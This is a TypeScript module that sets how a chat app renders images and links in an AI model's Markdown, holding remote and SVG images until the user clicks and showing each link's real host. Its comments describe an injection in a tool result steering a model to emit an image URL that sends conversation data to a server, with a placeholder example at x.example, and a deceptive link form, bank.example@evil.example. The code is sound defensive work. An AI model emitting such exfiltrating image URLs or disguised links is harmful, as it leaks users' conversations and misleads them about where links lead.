/**
 * What model Markdown may do with a URL, decided before anything is fetched. Pure functions of
 * the URL, the page's base URL and the app's trusted image origins.
 */

// Raster images only: an SVG is a document (see `imageSource`).
const RASTER_DATA_URL = /^data:image\/(?:png|jpe?g|gif|webp|avif)[;,]/i;
const SVG_DATA_URL = /^data:image\/svg\+xml[;,]/i;

export type ImageSource =
  /** The page's own origin, a trusted origin, or a raster `data:` image: shown at once. */
  | { kind: 'show'; url: string }
  /** Another origin: loading it tells that server the user read this answer. Asked first. */
  | { kind: 'ask'; url: string; host: string }
  /** A `data:image/svg+xml` image: asked first, like a remote one. */
  | { kind: 'ask-embedded'; url: string }
  /** No image that could be shown (`javascript:`, `file:`, `data:text/html`, unparsable): its alt text only. */
  | { kind: 'none' };

/**
 * Where an image of model Markdown may come from. Remote images are not fetched until the user
 * asks: an image URL is a request the model (or a prompt injection in a tool result) chose,
 * and it can carry anything from the conversation to a server (`![](https://x.example/?q=…)`).
 *
 * `data:image/svg+xml` waits for a click too. In an `<img>` an SVG runs no script and loads
 * nothing (browsers render it in the SVG integration spec's "secure animated" mode; the e2e
 * test checks both in Chromium), so it could be shown, but it is a whole XML document the
 * model wrote, and a click costs less than a parser's mistake.
 */
export function imageSource(src: string | undefined, base: string, trusted: ReadonlySet<string>): ImageSource {
  const trimmed = src?.trim() ?? '';
  if (trimmed === '') return { kind: 'none' };
  if (/^data:/i.test(trimmed)) {
    if (RASTER_DATA_URL.test(trimmed)) return { kind: 'show', url: trimmed };
    return SVG_DATA_URL.test(trimmed) ? { kind: 'ask-embedded', url: trimmed } : { kind: 'none' };
  }
  const url = parse(trimmed, base);
  if (!url || (url.protocol !== 'https:' && url.protocol !== 'http:')) return { kind: 'none' };
  if (url.origin === parse(base, base)?.origin || trusted.has(url.origin)) return { kind: 'show', url: url.href };
  return { kind: 'ask', url: url.href, host: url.host };
}

/**
 * What a reader should see of a link's destination beside its text, or `undefined` when the
 * text already is the destination (an autolink) or the link stays on this page's origin. The
 * host comes from the URL parser, so `https://bank.example@evil.example` shows `evil.example`,
 * and internationalised names show in their ASCII (punycode) form, which no look-alike
 * letters can imitate.
 */
export function linkDestination(href: string, text: string, base: string): string | undefined {
  const url = parse(href, base);
  if (!url) return undefined;
  const shown = text.trim();
  if (url.protocol === 'mailto:') return sameText(shown, url.pathname) || sameText(shown, href) ? undefined : url.pathname;
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return sameText(shown, href) ? undefined : href;
  if (url.origin === parse(base, base)?.origin) return undefined;
  const withoutScheme = url.href.replace(/^https?:\/\//i, '');
  if ([href, url.href, withoutScheme].some((form) => sameText(shown, form))) return undefined;
  return url.host;
}

function sameText(shown: string, destination: string): boolean {
  const strip = (value: string) => value.replace(/\/$/, '').toLowerCase();
  return strip(shown) === strip(destination);
}

function parse(value: string, base: string): URL | undefined {
  try {
    return new URL(value, base);
  } catch {
    return undefined;
  }
}
